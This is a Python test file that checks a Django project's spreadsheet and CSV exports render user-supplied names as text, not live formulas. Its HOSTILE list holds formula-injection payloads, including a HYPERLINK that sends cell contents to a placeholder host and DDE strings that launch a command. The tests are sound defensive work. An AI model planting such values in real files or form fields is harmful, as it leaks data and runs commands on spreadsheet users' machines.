"""Every file Vokasi writes is formula-safe: a hostile name is text, never a live formula.

Generates each kind of file (the cohort results template, the error reports of both
importers, the personal-data export, the report exports) with names a spreadsheet would
run, and reads every cell back.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from tests import factories
from tests.trainees.results_files import running_cohort
from trainees.selectors.personal_data import personal_data_xlsx
from trainees.services.results.template import results_template_xlsx
from vokasi.exports import FORMULA_PREFIXES, frame_to_csv, frame_to_xlsx
from vokasi.tabular import RowError, errors_to_csv, errors_to_xlsx

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "+62 812 000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def assert_no_formula_in_xlsx(data: bytes) -> int:
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                seen += cell.value is not None
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
    return seen


def assert_no_formula_in_csv(data: bytes) -> None:
    text = data.decode("utf-8-sig")
    delimiter = ";" if ";" in text.splitlines()[0] else ","  # Indonesian Excel's, or ","
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for value in row:
            assert not value.startswith(FORMULA_PREFIXES), value


def test_the_results_template_writes_hostile_names_as_text(world):
    cohort = running_cohort(world, trainees=0)
    for name in HOSTILE:
        factories.enrollment(cohort, factories.job_seeker(world.office_a, name=name))
    data = results_template_xlsx(cohort)
    assert_no_formula_in_xlsx(data)
    names = [
        row[1] for row in openpyxl.load_workbook(io.BytesIO(data))["Hasil"].iter_rows(
            min_row=2, values_only=True
        ) if row[1]
    ]  # fmt: skip
    # Each name is there as typed, behind the apostrophe (openpyxl reads \r back as \n).
    expected = sorted(name.replace("\r", "\n") for name in HOSTILE)
    assert sorted(name.removeprefix("'") for name in names) == expected


def test_the_error_reports_write_hostile_values_as_text():
    errors = [RowError(i + 2, "Nama", value, value) for i, value in enumerate(HOSTILE)]
    assert_no_formula_in_csv(errors_to_csv(errors))
    assert assert_no_formula_in_xlsx(errors_to_xlsx(errors)) >= len(HOSTILE)


def test_the_personal_data_export_writes_hostile_values_as_text(world):
    person = factories.job_seeker(
        world.office_a, name=HOSTILE[0], address=HOSTILE[2], birth_place=HOSTILE[3]
    )
    assert_no_formula_in_xlsx(personal_data_xlsx(person))


def test_report_exports_write_hostile_labels_as_text():
    frame = pd.DataFrame({"label": HOSTILE, "count": range(len(HOSTILE))})
    columns = [("label", "=Label"), ("count", "Count")]
    assert_no_formula_in_csv(frame_to_csv(frame, columns))
    assert_no_formula_in_xlsx(frame_to_xlsx(frame, columns))
